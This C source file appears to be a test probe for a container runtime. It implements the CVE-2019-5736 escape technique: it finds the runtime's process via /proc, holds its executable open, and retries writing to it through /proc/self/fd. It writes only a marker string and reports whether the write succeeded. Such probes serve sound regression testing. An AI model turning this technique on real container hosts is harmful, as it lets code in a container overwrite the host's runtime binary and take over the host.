/* The attack of CVE-2019-5736, from inside a container: opens /proc/PID/exe of every process that appears and is not one of
 * ours, for reading, and then tries to write to it through its own /proc/self/fd until that succeeds or can never succeed.
 * Says `ready`, then what became of it: `wrote`, `refused ERRNO`, or `nothing came`. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int open_new_exe(void) {
  char path[64], link[256];
  DIR *proc = opendir("/proc");
  for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
    int pid = atoi(entry->d_name);
    if (pid <= 1 || pid == getpid()) continue;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, link, sizeof link - 1);
    if (length < 0) continue;
    link[length] = 0;
    if (strstr(link, "tupper") == NULL) continue;
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
      closedir(proc);
      return fd;
    }
  }
  closedir(proc);
  return -1;
}

int main(int argc, char **argv) {
  time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 10);
  int fd = -1;
  puts("ready");
  fflush(stdout);
  while (fd < 0 && time(NULL) < end) fd = open_new_exe();
  if (fd < 0) {
    puts("nothing came");
    return 0;
  }
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int error = 0;
  while (time(NULL) < end) {
    int writable = open(path, O_WRONLY | O_APPEND);
    error = errno;
    if (writable >= 0) {
      if (write(writable, "OVERWRITTEN", 11) == 11) {
        puts("wrote");
        return 0;
      }
      error = errno;
    }
    if (error != ETXTBSY) break;
    usleep(200);
  }
  printf("refused %d\n", error);
  return 0;
}
